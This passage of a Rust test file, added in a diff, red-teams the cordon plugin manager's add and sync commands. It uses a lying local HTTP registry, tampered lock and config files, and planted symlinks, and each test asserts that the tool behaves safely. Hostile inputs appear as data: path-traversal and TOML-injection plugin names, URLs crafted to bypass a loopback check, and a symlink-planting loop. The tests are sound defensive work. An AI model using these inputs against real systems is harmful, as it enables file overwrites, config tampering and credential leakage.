@@ -1,0 +1,1316 @@
+//! Red-team tests for plugin distribution (`cordon add`, `cordon sync`, `cordon push`): a hostile
+//! registry or URL server (a raw HTTP server in this process, so it can lie about sizes, digests,
+//! redirects and auth, or never answer), a tampered cordon.lock or cordon.toml, and a local user
+//! planting files where cordon writes. Each test asserts the safe behaviour.
+
+use crate::support::{Workspace, guest_dir, run_on_terminal};
+use base64::Engine as _;
+use std::io::{BufRead as _, BufReader, Read as _, Write as _};
+use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream};
+use std::process::{Command, Stdio};
+use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+// ---------------------------------------------------------------------------------------------
+// A hostile HTTP server: one request per connection, answered by a closure.
+
+#[derive(Clone, Debug)]
+struct Seen {
+    method: String,
+    path: String,
+    headers: Vec<(String, String)>,
+    body: Vec<u8>,
+}
+
+impl Seen {
+    fn header(&self, name: &str) -> Option<&str> {
+        self.headers
+            .iter()
+            .find(|(n, _)| n.eq_ignore_ascii_case(name))
+            .map(|(_, v)| v.as_str())
+    }
+}
+
+enum Reply {
+    /// Status, headers, body (with a Content-Length).
+    Full(u16, Vec<(String, String)>, Vec<u8>),
+    /// Status, headers, then this many zero bytes with no Content-Length (until the connection
+    /// closes), counting what the client accepted.
+    Stream(u16, Vec<(String, String)>, u64),
+    /// Never answer.
+    Hang,
+}
+
+fn ok(body: impl Into<Vec<u8>>, content_type: &str) -> Reply {
+    Reply::Full(
+        200,
+        vec![("Content-Type".into(), content_type.into())],
+        body.into(),
+    )
+}
+
+fn status(code: u16, headers: &[(&str, &str)], body: &str) -> Reply {
+    Reply::Full(
+        code,
+        headers
+            .iter()
+            .map(|(n, v)| (n.to_string(), v.to_string()))
+            .collect(),
+        body.as_bytes().to_vec(),
+    )
+}
+
+struct Server {
+    addr: SocketAddr,
+    seen: Arc<Mutex<Vec<Seen>>>,
+    sent: Arc<AtomicU64>,
+    stop: Arc<AtomicBool>,
+}
+
+impl Server {
+    fn start(bind: &str, handler: impl Fn(&Seen) -> Reply + Send + Sync + 'static) -> Self {
+        let listener = TcpListener::bind(bind).unwrap();
+        listener.set_nonblocking(true).unwrap();
+        let addr = listener.local_addr().unwrap();
+        let seen = Arc::new(Mutex::new(Vec::new()));
+        let sent = Arc::new(AtomicU64::new(0));
+        let stop = Arc::new(AtomicBool::new(false));
+        let handler = Arc::new(handler);
+        {
+            let (seen, sent, stop) = (seen.clone(), sent.clone(), stop.clone());
+            std::thread::spawn(move || {
+                while !stop.load(Ordering::Relaxed) {
+                    match listener.accept() {
+                        Ok((stream, _)) => {
+                            let (seen, sent, stop, handler) =
+                                (seen.clone(), sent.clone(), stop.clone(), handler.clone());
+                            std::thread::spawn(move || {
+                                connection(stream, &*handler, &seen, &sent, &stop)
+                            });
+                        }
+                        Err(err) if err.kind() == std::io::ErrorKind::WouldBlock => {
+                            std::thread::sleep(Duration::from_millis(5));
+                        }
+                        Err(_) => break,
+                    }
+                }
+            });
+        }
+        Self {
+            addr,
+            seen,
+            sent,
+            stop,
+        }
+    }
+
+    fn requests(&self) -> Vec<Seen> {
+        self.seen.lock().unwrap().clone()
+    }
+
+    fn sent(&self) -> u64 {
+        self.sent.load(Ordering::Relaxed)
+    }
+}
+
+impl Drop for Server {
+    fn drop(&mut self) {
+        self.stop.store(true, Ordering::Relaxed);
+    }
+}
+
+fn connection(
+    stream: TcpStream,
+    handler: &(dyn Fn(&Seen) -> Reply + Send + Sync),
+    seen: &Mutex<Vec<Seen>>,
+    sent: &AtomicU64,
+    stop: &AtomicBool,
+) {
+    stream.set_nonblocking(false).unwrap();
+    let mut reader = BufReader::new(stream.try_clone().unwrap());
+    let mut line = String::new();
+    if reader.read_line(&mut line).unwrap_or(0) == 0 {
+        return;
+    }
+    let mut parts = line.split_whitespace();
+    let method = parts.next().unwrap_or_default().to_string();
+    let path = parts.next().unwrap_or_default().to_string();
+    let mut headers = Vec::new();
+    loop {
+        let mut header = String::new();
+        if reader.read_line(&mut header).unwrap_or(0) == 0 {
+            break;
+        }
+        let header = header.trim_end();
+        if header.is_empty() {
+            break;
+        }
+        if let Some((name, value)) = header.split_once(':') {
+            headers.push((name.trim().to_string(), value.trim().to_string()));
+        }
+    }
+    let length = headers
+        .iter()
+        .find(|(n, _)| n.eq_ignore_ascii_case("content-length"))
+        .and_then(|(_, v)| v.parse::<usize>().ok())
+        .unwrap_or(0);
+    let mut body = vec![0u8; length];
+    if reader.read_exact(&mut body).is_err() {
+        return;
+    }
+    let request = Seen {
+        method,
+        path,
+        headers,
+        body,
+    };
+    seen.lock().unwrap().push(request.clone());
+    let mut stream = stream;
+    let head = |code: u16, headers: &[(String, String)], length: Option<usize>| {
+        let mut text = format!("HTTP/1.1 {code} Reply\r\nConnection: close\r\n");
+        for (name, value) in headers {
+            text.push_str(&format!("{name}: {value}\r\n"));
+        }
+        if let Some(length) = length {
+            text.push_str(&format!("Content-Length: {length}\r\n"));
+        }
+        text.push_str("\r\n");
+        text
+    };
+    match handler(&request) {
+        Reply::Full(code, headers, body) => {
+            let _ = stream.write_all(head(code, &headers, Some(body.len())).as_bytes());
+            if request.method != "HEAD" {
+                let _ = stream.write_all(&body);
+            }
+        }
+        Reply::Stream(code, headers, total) => {
+            if stream
+                .write_all(head(code, &headers, None).as_bytes())
+                .is_err()
+            {
+                return;
+            }
+            let chunk = vec![0u8; 64 << 10];
+            let mut left = total;
+            while left > 0 {
+                let n = left.min(chunk.len() as u64) as usize;
+                if stream.write_all(&chunk[..n]).is_err() {
+                    break;
+                }
+                sent.fetch_add(n as u64, Ordering::Relaxed);
+                left -= n as u64;
+            }
+        }
+        Reply::Hang => {
+            while !stop.load(Ordering::Relaxed) {
+                std::thread::sleep(Duration::from_millis(100));
+            }
+        }
+    }
+    let _ = stream.flush();
+    let _ = stream.shutdown(std::net::Shutdown::Both);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Helpers.
+
+fn component(name: &str) -> Vec<u8> {
+    std::fs::read(guest_dir().join(format!("{name}.wasm"))).unwrap()
+}
+
+fn sha256(bytes: &[u8]) -> String {
+    use sha2::Digest as _;
+    hex::encode(sha2::Sha256::digest(bytes))
+}
+
+fn sha512(bytes: &[u8]) -> String {
+    use sha2::Digest as _;
+    hex::encode(sha2::Sha512::digest(bytes))
+}
+
+const MANIFEST_TYPE: &str = "application/vnd.oci.image.manifest.v1+json";
+
+/// An OCI image manifest with these layers (each `(mediaType, digest, size)`).
+fn manifest(layers: &[(&str, &str, i64)]) -> Vec<u8> {
+    let layers: Vec<serde_json::Value> = layers
+        .iter()
+        .map(|(media_type, digest, size)| {
+            serde_json::json!({ "mediaType": media_type, "digest": digest, "size": size })
+        })
+        .collect();
+    serde_json::to_vec(&serde_json::json!({
+        "schemaVersion": 2,
+        "mediaType": MANIFEST_TYPE,
+        "config": {
+            "mediaType": "application/vnd.oci.empty.v1+json",
+            "digest": "sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a",
+            "size": 2
+        },
+        "layers": layers,
+    }))
+    .unwrap()
+}
+
+/// A registry serving `manifest` for every manifest reference and `blob` for every blob.
+fn registry(manifest: Vec<u8>, blob: Vec<u8>) -> Server {
+    Server::start("127.0.0.1:0", move |request| {
+        if request.path == "/v2/" {
+            ok("{}", "application/json")
+        } else if request.path.contains("/manifests/") {
+            ok(manifest.clone(), MANIFEST_TYPE)
+        } else if request.path.contains("/blobs/") {
+            ok(blob.clone(), "application/octet-stream")
+        } else {
+            status(404, &[], "no")
+        }
+    })
+}
+
+/// Nothing was installed or recorded in `ws`.
+fn assert_nothing_written(ws: &Workspace, what: &str) {
+    let plugins: Vec<_> = std::fs::read_dir(ws.path().join("plugins"))
+        .unwrap()
+        .map(|e| e.unwrap().file_name())
+        .collect();
+    assert!(plugins.is_empty(), "{what}: plugins/ has {plugins:?}");
+    assert!(
+        !ws.path().join("cordon.toml").exists(),
+        "{what}: cordon.toml written"
+    );
+    assert!(
+        !ws.path().join("cordon.lock").exists(),
+        "{what}: cordon.lock written"
+    );
+}
+
+/// A cordon.lock with these `[sources]` (`name`, `source`, `sha256`) and approved `[plugins]`
+/// (`name`, `sha256`).
+fn write_lock(ws: &Workspace, sources: &[(&str, &str, &str)], approved: &[(&str, &str)]) {
+    let mut root = toml::Table::new();
+    let mut plugins = toml::Table::new();
+    for (name, sha) in approved {
+        let mut entry = toml::Table::new();
+        entry.insert("sha256".into(), toml::Value::String(sha.to_string()));
+        entry.insert("grants".into(), toml::Value::Array(vec![]));
+        plugins.insert(name.to_string(), toml::Value::Table(entry));
+    }
+    root.insert("plugins".into(), toml::Value::Table(plugins));
+    let mut table = toml::Table::new();
+    for (name, source, sha) in sources {
+        let mut entry = toml::Table::new();
+        entry.insert("source".into(), toml::Value::String(source.to_string()));
+        entry.insert("sha256".into(), toml::Value::String(sha.to_string()));
+        table.insert(name.to_string(), toml::Value::Table(entry));
+    }
+    root.insert("sources".into(), toml::Value::Table(table));
+    std::fs::write(
+        ws.path().join("cordon.lock"),
+        toml::to_string(&root).unwrap(),
+    )
+    .unwrap();
+}
+
+/// This machine's address on its default route (not loopback), to stand for "another host".
+fn outside_ip() -> Option<IpAddr> {
+    let socket = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
+    socket.connect("8.8.8.8:53").ok()?;
+    let ip = socket.local_addr().ok()?.ip();
+    (!ip.is_loopback() && !ip.is_unspecified()).then_some(ip)
+}
+
+/// Runs `command`; kills it if it is still running after `limit`. Returns its exit code (None if
+/// killed), its stderr and how long it ran.
+fn run_within(mut command: Command, limit: Duration) -> (Option<i32>, String, Duration) {
+    command.stdout(Stdio::null()).stderr(Stdio::piped());
+    let mut child = command.spawn().unwrap();
+    let mut stderr = child.stderr.take().unwrap();
+    let reader = std::thread::spawn(move || {
+        let mut text = String::new();
+        let _ = stderr.read_to_string(&mut text);
+        text
+    });
+    let start = Instant::now();
+    loop {
+        if let Some(status) = child.try_wait().unwrap() {
+            return (status.code(), reader.join().unwrap(), start.elapsed());
+        }
+        if start.elapsed() > limit {
+            let _ = child.kill();
+            let _ = child.wait();
+            return (None, reader.join().unwrap(), start.elapsed());
+        }
+        std::thread::sleep(Duration::from_millis(200));
+    }
+}
+
+fn docker_config(ws: &Workspace, registry: &str, user: &str, password: &str) -> String {
+    let dir = ws.path().join("docker");
+    std::fs::create_dir_all(&dir).unwrap();
+    let auth = base64::engine::general_purpose::STANDARD.encode(format!("{user}:{password}"));
+    std::fs::write(
+        dir.join("config.json"),
+        format!(r#"{{"auths": {{"{registry}": {{"auth": "{auth}"}}}}}}"#),
+    )
+    .unwrap();
+    dir.to_str().unwrap().to_string()
+}
+
+fn basic(user: &str, password: &str) -> String {
+    base64::engine::general_purpose::STANDARD.encode(format!("{user}:{password}"))
+}
+
+/// Whether any request carried these Basic credentials.
+fn carried(requests: &[Seen], user: &str, password: &str) -> bool {
+    let encoded = basic(user, password);
+    requests.iter().any(|r| {
+        r.header("authorization")
+            .is_some_and(|v| v.contains(&encoded) || v.contains(password))
+    })
+}
+
+const MAX: u64 = 256 << 20;
+
+// ---------------------------------------------------------------------------------------------
+// Tampered cordon.lock: names and sources.
+
+#[test]
+fn sync_keeps_a_locked_source_name_inside_the_plugins_dir() {
+    let ws = Workspace::new();
+    let probe = component("fixture_probe");
+    let source = ws.path().join("src").join("probe.wasm");
+    std::fs::create_dir_all(source.parent().unwrap()).unwrap();
+    std::fs::write(&source, &probe).unwrap();
+    let outside = ws.path().join("elsewhere").join("pwned");
+    let sha = sha256(&probe);
+    write_lock(
+        &ws,
+        &[
+            ("../escaped", source.to_str().unwrap(), sha.as_str()),
+            (
+                outside.to_str().unwrap(),
+                source.to_str().unwrap(),
+                sha.as_str(),
+            ),
+        ],
+        &[],
+    );
+    let out = ws.cordon(&["sync"]);
+    assert!(
+        !ws.path().join("escaped.wasm").exists(),
+        "sync wrote outside plugins/ through a `../` source name (exit {}): {}{}",
+        out.code,
+        out.stdout,
+        out.stderr
+    );
+    assert!(
+        !ws.path().join("elsewhere/pwned.wasm").exists(),
+        "sync wrote to an absolute path taken from a source name (exit {}): {}{}",
+        out.code,
+        out.stdout,
+        out.stderr
+    );
+    assert_ne!(out.code, 0, "a lock with invalid plugin names is refused");
+}
+
+#[test]
+fn sync_does_not_replace_an_approved_plugin_with_a_source_of_another_digest() {
+    let ws = Workspace::new().plugin("fixture_probe", "probe");
+    let probe = component("fixture_probe");
+    let guard = component("guard");
+    let other = ws.path().join("other.wasm");
+    std::fs::write(&other, &guard).unwrap();
+    // The approval says probe's digest; the tampered source entry says another component's.
+    let (guard_sha, probe_sha) = (sha256(&guard), sha256(&probe));
+    write_lock(
+        &ws,
+        &[("probe", other.to_str().unwrap(), guard_sha.as_str())],
+        &[("probe", probe_sha.as_str())],
+    );
+    let out = ws.cordon(&["sync"]);
+    assert!(
+        std::fs::read(ws.plugin_path("probe")).unwrap() == probe,
+        "sync replaced the approved plugin with one the lock never approved (exit {}): {}{}",
+        out.code,
+        out.stdout,
+        out.stderr
+    );
+    assert_ne!(out.code, 0, "{}", out.stdout);
+}
+
+#[test]
+fn sync_checks_the_digest_before_replacing_a_file_already_there() {
+    let ws = Workspace::new().raw_plugin("probe", b"an older file");
+    let probe = component("fixture_probe");
+    let served = ws.path().join("served.wasm");
+    std::fs::write(&served, component("guard")).unwrap();
+    let probe_sha = sha256(&probe);
+    write_lock(
+        &ws,
+        &[("probe", served.to_str().unwrap(), probe_sha.as_str())],
+        &[],
+    );
+    let out = ws.cordon(&["sync"]);
+    assert_ne!(out.code, 0);
+    assert!(
+        out.stderr.contains("the digest does not match"),
+        "{}",
+        out.stderr
+    );
+    assert_eq!(
+        std::fs::read(ws.plugin_path("probe")).unwrap(),
+        b"an older file"
+    );
+}
+
+#[test]
+fn a_local_source_larger_than_the_cap_is_refused_without_reading_it_all() {
+    // `std::fs::read` of a file source has no cap: /dev/zero (or a huge file) named in a tampered
+    // lock, or given to `cordon add`, is read until memory runs out. A 600 MiB sparse file shows it.
+    let ws = Workspace::new();
+    let big = ws.path().join("big.wasm");
+    std::fs::File::create(&big)
+        .unwrap()
+        .set_len(600 << 20)
+        .unwrap();
+    let out = ws.cordon(&["add", "big.wasm", "--sha256", &"0".repeat(64)]);
+    assert_ne!(out.code, 0);
+    assert!(
+        out.stderr.contains(&MAX.to_string()),
+        "a 600 MiB local file was read whole instead of refused at the {MAX}-byte cap: {}",
+        out.stderr
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// cordon.toml: grants left under the name.
+
+#[test]
+fn add_does_not_inherit_grants_left_under_the_plugin_name() {
+    // cordon.toml (committed) grants the trusted `probe` plugin; plugins/ (not committed) is empty
+    // on this checkout. `cordon add` of any component that names itself `probe` must not pick
+    // those grants up while saying "granted: nothing".
+    let ws = Workspace::new().config("[plugins.probe]\nenv = [\"HOME\"]\nhook = true\n");
+    std::fs::write(ws.path().join("probe.wasm"), component("guard")).unwrap();
+    let out = ws.cordon(&["add", "probe.wasm"]);
+    if out.code != 0 {
+        return; // refusing is safe
+    }
+    let config: toml::Value =
+        toml::from_str(&std::fs::read_to_string(ws.path().join("cordon.toml")).unwrap()).unwrap();
+    let keys: Vec<String> = config["plugins"]["probe"]
+        .as_table()
+        .unwrap()
+        .keys()
+        .cloned()
+        .collect();
+    assert_eq!(
+        keys,
+        vec!["sha256".to_string()],
+        "the new component inherited the old grants; cordon add printed:\n{}",
+        out.stdout
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// A local attacker and predictable paths.
+
+#[test]
+fn the_inspection_scratch_dir_cannot_be_planted_by_another_user() {
+    // load_alone writes the component to $TMPDIR/cordon-inspect-PID-NAME/NAME.wasm: a directory
+    // another local user can create first (PIDs are predictable) with NAME.wasm a symlink to a
+    // file of the user running cordon, which `std::fs::write` then follows and overwrites.
+    let ws = Workspace::new();
+    std::fs::write(ws.path().join("probe.wasm"), component("fixture_probe")).unwrap();
+    let tmp = ws.path().join("tmp");
+    std::fs::create_dir(&tmp).unwrap();
+    let victim = ws.path().join("victim.txt");
+    std::fs::write(&victim, "precious").unwrap();
+    let read_number = |path: &str| -> u32 {
+        std::fs::read_to_string(path)
+            .unwrap()
+            .trim()
+            .parse()
+            .unwrap()
+    };
+    let last = read_number("/proc/sys/kernel/ns_last_pid");
+    let pid_max = read_number("/proc/sys/kernel/pid_max");
+    for offset in 1..=3000 {
+        let pid = (last + offset) % pid_max;
+        if pid < 2 {
+            continue;
+        }
+        let dir = tmp.join(format!("cordon-inspect-{pid}-probe"));
+        std::fs::create_dir(&dir).unwrap();
+        std::os::unix::fs::symlink(&victim, dir.join("probe.wasm")).unwrap();
+    }
+    let out = ws.cordon_with_env(&["add", "probe.wasm"], &[("TMPDIR", tmp.to_str().unwrap())]);
+    assert!(
+        std::fs::read(&victim).unwrap() == b"precious",
+        "cordon add followed a planted symlink in its scratch dir and overwrote another file (exit {}): {}",
+        out.code,
+        out.stderr
+    );
+}
+
+#[test]
+fn a_symlink_in_plugins_is_replaced_not_followed() {
+    let ws = Workspace::new();
+    let victim = ws.path().join("victim.txt");
+    std::fs::write(&victim, "precious").unwrap();
+    std::os::unix::fs::symlink(&victim, ws.plugin_path("probe")).unwrap();
+    std::fs::write(ws.path().join("probe.wasm"), component("fixture_probe")).unwrap();
+    let out = ws.cordon(&["add", "probe.wasm"]);
+    assert_ne!(out.code, 0, "another file is there: --force needed");
+    let out = ws.cordon(&["add", "probe.wasm", "--force"]);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
+    assert!(
+        !std::fs::symlink_metadata(ws.plugin_path("probe"))
+            .unwrap()
+            .file_type()
+            .is_symlink()
+    );
+
+    // sync too.
+    let victim2 = ws.path().join("victim2.txt");
+    std::fs::write(&victim2, "precious").unwrap();
+    std::fs::remove_file(ws.plugin_path("probe")).unwrap();
+    std::os::unix::fs::symlink(&victim2, ws.plugin_path("probe")).unwrap();
+    let out = ws.cordon(&["sync"]);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert_eq!(std::fs::read_to_string(&victim2).unwrap(), "precious");
+}
+
+#[test]
+fn crafted_plugin_names_are_refused() {
+    let ws = Workspace::new();
+    std::fs::write(ws.path().join("probe.wasm"), component("fixture_probe")).unwrap();
+    for name in [
+        "../../x",
+        "../x",
+        "/tmp/x",
+        "a/b",
+        "A",
+        "",
+        "x.y",
+        "x\"]\nevil = 1\n[plugins.y",
+        "x]\n[host]\nlocked = false\n#",
+    ] {
+        let out = ws.cordon(&["add", "probe.wasm", "--name", name]);
+        assert_ne!(out.code, 0, "--name {name:?} was accepted");
+    }
+    std::fs::write(ws.path().join("9lives.wasm"), component("fixture_probe")).unwrap();
+    assert_ne!(ws.cordon(&["add", "9lives.wasm"]).code, 0);
+    assert_nothing_written(&ws, "crafted names");
+    assert!(!ws.path().parent().unwrap().join("x.wasm").exists());
+}
+
+// ---------------------------------------------------------------------------------------------
+// A hostile registry: digests.
+
+#[test]
+fn a_manifest_that_does_not_match_the_pinned_digest_is_refused() {
+    let probe = component("fixture_probe");
+    let good = manifest(&[(
+        "application/wasm",
+        &format!("sha256:{}", sha256(&probe)),
+        probe.len() as i64,
+    )]);
+    let pinned = format!("sha256:{}", sha256(&good));
+    let guard = component("guard");
+    let evil = manifest(&[(
+        "application/wasm",
+        &format!("sha256:{}", sha256(&guard)),
+        guard.len() as i64,
+    )]);
+    // The registry even claims the pinned digest in its header.
+    let server = {
+        let pinned = pinned.clone();
+        Server::start("127.0.0.1:0", move |request| {
+            if request.path == "/v2/" {
+                ok("{}", "application/json")
+            } else if request.path.contains("/manifests/") {
+                Reply::Full(
+                    200,
+                    vec![
+                        ("Content-Type".into(), MANIFEST_TYPE.into()),
+                        ("Docker-Content-Digest".into(), pinned.clone()),
+                    ],
+                    evil.clone(),
+                )
+            } else {
+                ok(guard.clone(), "application/octet-stream")
+            }
+        })
+    };
+    let ws = Workspace::new();
+    let out = ws.cordon(&[
+        "add",
+        &format!("oci://{}/tools/probe@{pinned}", server.addr),
+    ]);
+    assert_ne!(out.code, 0, "{}", out.stdout);
+    assert_nothing_written(&ws, "manifest swapped");
+}
+
+#[test]
+fn a_blob_that_does_not_match_its_descriptor_is_refused() {
+    let probe = component("fixture_probe");
+    let server = registry(
+        manifest(&[(
+            "application/wasm",
+            &format!("sha256:{}", sha256(&probe)),
+            probe.len() as i64,
+        )]),
+        component("guard"),
+    );
+    let ws = Workspace::new();
+    let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", server.addr)]);
+    assert_ne!(out.code, 0, "{}", out.stdout);
+    assert_nothing_written(&ws, "blob swapped");
+}
+
+#[test]
+fn descriptor_digests_other_than_lowercase_sha256_are_refused() {
+    let probe = component("fixture_probe");
+    for digest in [
+        format!("sha512:{}", sha512(&probe)),
+        format!("sha256:{}", sha256(&probe).to_uppercase()),
+        "sha256:zz".to_string(),
+        format!("md5:{}", &sha256(&probe)[..32]),
+        sha256(&probe),
+    ] {
+        let server = registry(
+            manifest(&[("application/wasm", &digest, probe.len() as i64)]),
+            probe.clone(),
+        );
+        let ws = Workspace::new();
+        let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", server.addr)]);
+        assert_ne!(out.code, 0, "{digest}: {}", out.stdout);
+        assert_nothing_written(&ws, &digest);
+    }
+}
+
+#[test]
+fn an_image_index_is_refused() {
+    let probe = component("fixture_probe");
+    let inner = manifest(&[(
+        "application/wasm",
+        &format!("sha256:{}", sha256(&probe)),
+        probe.len() as i64,
+    )]);
+    let index = serde_json::to_vec(&serde_json::json!({
+        "schemaVersion": 2,
+        "mediaType": "application/vnd.oci.image.index.v1+json",
+        "manifests": [{
+            "mediaType": MANIFEST_TYPE,
+            "digest": format!("sha256:{}", sha256(&inner)),
+            "size": inner.len(),
+            "platform": { "architecture": "wasm", "os": "wasip2" }
+        }]
+    }))
+    .unwrap();
+    let server = registry(index, probe);
+    let ws = Workspace::new();
+    let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", server.addr)]);
+    assert_ne!(out.code, 0, "{}", out.stdout);
+    assert_nothing_written(&ws, "image index");
+}
+
+#[test]
+fn a_tag_whose_digest_header_lies_pins_the_real_manifest_digest() {
+    let probe = component("fixture_probe");
+    let body = manifest(&[(
+        "application/wasm",
+        &format!("sha256:{}", sha256(&probe)),
+        probe.len() as i64,
+    )]);
+    let real = sha256(&body);
+    let lie = format!("sha256:{}", "1".repeat(64));
+    let server = {
+        let probe = probe.clone();
+        Server::start("127.0.0.1:0", move |request| {
+            if request.path == "/v2/" {
+                ok("{}", "application/json")
+            } else if request.path.contains("/manifests/") {
+                Reply::Full(
+                    200,
+                    vec![
+                        ("Content-Type".into(), MANIFEST_TYPE.into()),
+                        ("Docker-Content-Digest".into(), lie.clone()),
+                    ],
+                    body.clone(),
+                )
+            } else {
+                ok(probe.clone(), "application/octet-stream")
+            }
+        })
+    };
+    let ws = Workspace::new();
+    let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", server.addr)]);
+    if out.code == 0 {
+        let lock: toml::Value =
+            toml::from_str(&std::fs::read_to_string(ws.path().join("cordon.lock")).unwrap())
+                .unwrap();
+        let source = lock["sources"]["probe"]["source"].as_str().unwrap();
+        assert!(source.ends_with(&format!("@sha256:{real}")), "{source}");
+    } else {
+        assert_nothing_written(&ws, "lying digest header");
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// A hostile registry or URL server: sizes and time.
+
+#[test]
+fn a_blob_longer_than_its_descriptor_is_not_read_past_the_cap() {
+    // The descriptor says 1 KiB; the registry sends 320 MiB. The 256 MiB cap is checked only
+    // against the declared size, and pull_blob writes every byte into a Vec: an endless blob is an
+    // out-of-memory kill.
+    let probe = component("fixture_probe");
+    let server = Server::start("127.0.0.1:0", move |request| {
+        if request.path == "/v2/" {
+            ok("{}", "application/json")
+        } else if request.path.contains("/manifests/") {
+            ok(
+                manifest(&[(
+                    "application/wasm",
+                    &format!("sha256:{}", sha256(&probe)),
+                    1024,
+                )]),
+                MANIFEST_TYPE,
+            )
+        } else {
+            Reply::Stream(
+                200,
+                vec![("Content-Type".into(), "application/octet-stream".into())],
+                320 << 20,
+            )
+        }
+    });
+    let ws = Workspace::new();
+    let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", server.addr)]);
+    assert_ne!(out.code, 0);
+    assert_nothing_written(&ws, "oversized blob");
+    let sent = server.sent();
+    assert!(
+        sent < MAX + (16 << 20),
+        "cordon read {} MiB of a layer declared as 1 KiB (cap {} MiB): {}",
+        sent >> 20,
+        MAX >> 20,
+        out.stderr
+    );
+}
+
+#[test]
+fn a_huge_manifest_is_not_read_into_memory() {
+    // pull_manifest_raw collects the whole body (`res.bytes()`) with no cap.
+    let server = Server::start("127.0.0.1:0", move |request| {
+        if request.path == "/v2/" {
+            ok("{}", "application/json")
+        } else {
+            Reply::Stream(
+                200,
+                vec![("Content-Type".into(), MANIFEST_TYPE.into())],
+                400 << 20,
+            )
+        }
+    });
+    let ws = Workspace::new();
+    let out = ws.cordon(&["add", &format!("oci://{}/tools/probe:1", server.addr)]);
+    assert_ne!(out.code, 0);
+    let sent = server.sent();
+    assert!(
+        sent < MAX + (16 << 20),
+        "cordon read {} MiB of a manifest: {}",
+        sent >> 20,
+        out.stderr
+    );
+}
+
+#[test]
+fn a_url_download_is_capped_while_streaming() {
+    let server = Server::start("127.0.0.1:0", |_| {
+        Reply::Stream(
+            200,
+            vec![("Content-Type".into(), "application/wasm".into())],
+            320 << 20,
+        )
+    });
+    let ws = Workspace::new();
+    let out = ws.cordon(&[
+        "add",
+        &format!("http://{}/big.wasm", server.addr),
+        "--sha256",
+        &"0".repeat(64),
+    ]);
+    assert_ne!(out.code, 0);
+    assert!(
+        out.stderr.contains("that large is refused"),
+        "{}",
+        out.stderr
+    );
+    assert!(server.sent() < MAX + (16 << 20), "{}", server.sent());
+    assert_nothing_written(&ws, "huge URL");
+}
+
+#[test]
+fn a_registry_that_never_answers_does_not_hang_cordon() {
+    let server = Server::start("127.0.0.1:0", |_| Reply::Hang);
+    let ws = Workspace::new();
+    let limit = Duration::from_secs(100);
+    let (code, stderr, took) = run_within(
+        ws.cordon_command(&["add", &format!("oci://{}/tools/probe:1", server.addr)]),
+        limit,
+    );
+    assert!(
+        code.is_some(),
+        "cordon add was still waiting on a silent registry after {took:?} (no read timeout): {stderr}"
+    );
+    assert_ne!(code, Some(0));
+}
+
+#[test]
+fn a_url_that_never_answers_does_not_hang_cordon() {
+    let server = Server::start("127.0.0.1:0", |_| Reply::Hang);
+    let ws = Workspace::new();
+    let limit = Duration::from_secs(100);
+    let (code, stderr, took) = run_within(
+        ws.cordon_command(&[
+            "add",
+            &format!("http://{}/x.wasm", server.addr),
+            "--sha256",
+            &"0".repeat(64),
+        ]),
+        limit,
+    );
+    assert!(
+        code.is_some(),
+        "cordon add was still waiting on a silent server after {took:?} (only a connect timeout): {stderr}"
+    );
+    assert_ne!(code, Some(0));
+}
+
+// ---------------------------------------------------------------------------------------------
+// Plain HTTP beyond loopback.
+
+#[test]
+fn plain_http_to_a_non_loopback_host_is_refused_whatever_the_url_looks_like() {
+    use cordon_distribution::Source;
+    // is_loopback looks at the text before the first ':' or '/': userinfo and names that merely
+    // start with "127." pass.
+    for url in [
+        "http://127.0.0.1@example.com/a.wasm",
+        "http://127.0.0.1:x@example.com/a.wasm",
+        "http://localhost:x@example.com/a.wasm",
+        "http://127.example.com/a.wasm",
+        "http://127.0.0.1.nip.example/a.wasm",
+    ] {
+        assert!(
+            Source::parse(url).is_err(),
+            "{url} is accepted as a loopback URL"
+        );
+    }
+    // And end to end: a server on this machine's outside address gets the plain-HTTP request.
+    let Some(ip) = outside_ip() else {
+        eprintln!("no non-loopback address: end-to-end part skipped");
+        return;
+    };
+    let probe = component("fixture_probe");
+    let outside = {
+        let probe = probe.clone();
+        Server::start(&SocketAddr::new(ip, 0).to_string(), move |_| {
+            ok(probe.clone(), "application/wasm")
+        })
+    };
+    let ws = Workspace::new();
+    let out = ws.cordon(&[
+        "add",
+        &format!("http://127.0.0.1:x@{}/probe.wasm", outside.addr),
+        "--sha256",
+        &sha256(&probe),
+    ]);
+    assert!(
+        outside.requests().is_empty(),
+        "cordon fetched over plain HTTP from {} (exit {}): {}",
+        outside.addr,
+        out.code,
+        out.stdout
+    );
+    assert_ne!(out.code, 0);
+}
+
+#[test]
+fn a_registry_host_starting_with_127_is_not_reached_over_plain_http() {
+    // client_for uses plain HTTP for any registry whose host starts with "127." — a DNS name
+    // like 127.attacker.example is not loopback; any credentials for it would go in clear text.
+    let ws = Workspace::new();
+    let out = ws.cordon(&["add", "oci://127.attacker.invalid/tools/probe:1"]);
+    assert_ne!(out.code, 0);
+    assert!(
+        !out.stderr.contains("http://127.attacker.invalid"),
+        "a non-loopback registry was contacted over plain HTTP: {}",
+        out.stderr
+    );
+}
+
+#[test]
+fn a_url_redirect_to_plain_http_elsewhere_is_not_followed() {
+    let Some(ip) = outside_ip() else {
+        eprintln!("no non-loopback address: skipped");
+        return;
+    };
+    let probe = component("fixture_probe");
+    let outside = {
+        let probe = probe.clone();
+        Server::start(&SocketAddr::new(ip, 0).to_string(), move |_| {
+            ok(probe.clone(), "application/wasm")
+        })
+    };
+    let location = format!("http://{}/probe.wasm", outside.addr);
+    let first = Server::start("127.0.0.1:0", move |_| {
+        status(302, &[("Location", location.as_str())], "")
+    });
+    let ws = Workspace::new();
+    let out = ws.cordon(&[
+        "add",
+        &format!("http://{}/probe.wasm", first.addr),
+        "--sha256",
+        &sha256(&probe),
